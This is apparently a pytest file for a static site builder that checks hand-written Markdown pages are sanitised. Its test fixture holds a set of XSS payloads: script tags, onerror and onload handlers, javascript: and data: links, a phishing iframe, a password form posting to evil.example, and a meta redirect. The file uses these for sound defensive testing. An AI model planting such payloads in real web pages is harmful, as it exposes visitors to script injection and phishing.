"""Hand-written pages in content/ never run script in readers' browsers (issue 14 item 4).

Raw HTML and `javascript:` links in `content/*.md` are sanitised by default with an
allowlist that keeps what Markdown and the theme need; iframes stay only from the hosts
the agency lists; an agency may opt out in mkdocs.yml.
"""

from __future__ import annotations

from pathlib import Path

from bs4 import BeautifulSoup
from click.testing import CliRunner

from conftest import MKDOCS_YML, SCORES_2568, write_project
from site_builder.cli import main

HOSTILE = """\
---
title: 'ประกาศ<img src=x onerror=alert(1)>'
---

# เกี่ยวกับเรา<img src=x onerror=alert(2)>

<script>alert(3)</script>
<img src="logo.png" alt="ตรา" onerror="alert(4)">
<a href="javascript:alert(5)">คลิก</a> [ลิงก์](javascript:alert(6)) <a href="JaVaScRiPt:alert(7)">x</a>
<div onmouseover="alert(8)" style="position:fixed;top:0;text-align:center">ทับทั้งหน้า</div>
<iframe src="https://evil.example/phish"></iframe>
<iframe src="https://www.youtube.com/embed/abc" title="วิดีโอ"></iframe>
<svg onload="alert(9)"><circle r="5"/></svg>
<form action="https://evil.example/"><input type="password" name="pw"></form>
<object data="x.swf"></object><embed src="x.swf"><style>body{display:none}</style>
<div id="__config">{"base": "https://evil.example/"}</div>
<a href="data:text/html,<script>alert(10)</script>">data</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/">

## ตาราง

| ก | ข |
| :- | -: |
| 1 | 2 |

<details><summary>รายละเอียด</summary>ข้อความซ่อน</details>

![ภาพ](files/2569/o1.pdf "ชื่อภาพ")

[ติดต่อ](mailto:saraban@example.go.th) · [เว็บ](https://www.example.go.th/) · [ข้อ O1](2569/oit/o1/)
"""

MKDOCS_IFRAMES = MKDOCS_YML.replace("plugins: [oit]", "plugins: [{oit: {iframe_hosts: [www.youtube.com]}}]")


def build(root: Path) -> None:
    result = CliRunner().invoke(main, ["build", str(root)])
    assert result.exit_code == 0, result.output


def active_content(soup: BeautifulSoup) -> list[str]:
    """Everything in the page that could run or mislead: handlers, script URLs, foreign frames, forms."""
    found = []
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.append(f"{tag.name}[{name}]")
            if name in ("href", "src", "action", "data") and text.strip().lower().startswith(("javascript:", "data:")):
                found.append(f"{tag.name}[{name}]={text}")
        if tag.name in ("form", "object", "embed", "meta") and tag.find_parent("article"):
            found.append(tag.name)
        if tag.name == "iframe" and "www.youtube.com" not in tag.get("src", ""):
            found.append(f"iframe {tag.get('src')}")
    for script in soup.find_all("script"):
        if "alert(" in script.get_text():
            found.append("script")
    return found


def test_hostile_html_in_a_content_page_is_made_inert(tmp_path: Path) -> None:
    root = write_project(tmp_path / "a", {"mkdocs.yml": MKDOCS_IFRAMES, "content/about.md": HOSTILE})
    build(root)
    html = (root / "site/about/index.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    assert active_content(soup) == []
    assert "alert(" not in "".join(str(s) for s in soup.find_all("script"))
    article = soup.select_one("article")
    assert article is not None
    assert article.find(id="__config") is None
    assert "position" not in str(article.select_one("div[style]") or "")
    # What Markdown and the theme need is kept.
    assert article.select_one("h2#ตาราง, h2[id]") is not None
    assert [td.get("style") for td in article.select("table td")] == ["text-align:left", "text-align:right"]
    assert article.select_one("details summary").get_text() == "รายละเอียด"
    assert article.select_one('img[alt="ภาพ"][src]') is not None
    assert article.select_one('a[href="mailto:saraban@example.go.th"]') is not None
    assert article.select_one('a[href="https://www.example.go.th/"]') is not None
    assert article.select_one('iframe[src="https://www.youtube.com/embed/abc"]') is not None
    assert "ทับทั้งหน้า" in article.get_text() and "คลิก" in article.get_text()  # text stays, only the code goes


def test_iframes_need_the_agency_to_list_their_host(tmp_path: Path) -> None:
    root = write_project(tmp_path / "a", {"mkdocs.yml": MKDOCS_YML, "content/about.md": HOSTILE})
    build(root)
    soup = BeautifulSoup((root / "site/about/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select("article iframe") == []


def test_a_hand_written_page_replacing_a_generated_one_is_sanitised_too(tmp_path: Path) -> None:
    root = write_project(tmp_path / "a", {"mkdocs.yml": MKDOCS_YML,
                                          "content/2569/oit/o4/index.md": "# O4\n\n<img src=x onerror=alert(1)>\n"})
    build(root)
    soup = BeautifulSoup((root / "site/2569/oit/o4/index.html").read_text(encoding="utf-8"), "html.parser")
    assert active_content(soup) == []


def test_generated_pages_keep_their_chart_and_tables(tmp_path: Path) -> None:
    # Two years of scores: the home page draws its trend chart from two years on.
    root = write_project(tmp_path / "a", {"mkdocs.yml": MKDOCS_YML, "content/about.md": HOSTILE,
                                          "data/2567/scores.yml": SCORES_2568.replace("year: 2568", "year: 2567")})
    build(root)
    home = BeautifulSoup((root / "site/index.html").read_text(encoding="utf-8"), "html.parser")
    assert home.select_one("article svg") is not None  # the trend chart is generated, not sanitised away


def test_an_agency_can_opt_out_deliberately(tmp_path: Path) -> None:
    mkdocs = MKDOCS_YML.replace("plugins: [oit]", "plugins: [{oit: {sanitize_content: false}}]")
    root = write_project(tmp_path / "a", {"mkdocs.yml": mkdocs,
                                          "content/about.md": "# ก\n\n<div onclick=\"go()\">x</div>\n"})
    build(root)
    soup = BeautifulSoup((root / "site/about/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select_one("article div[onclick]") is not None
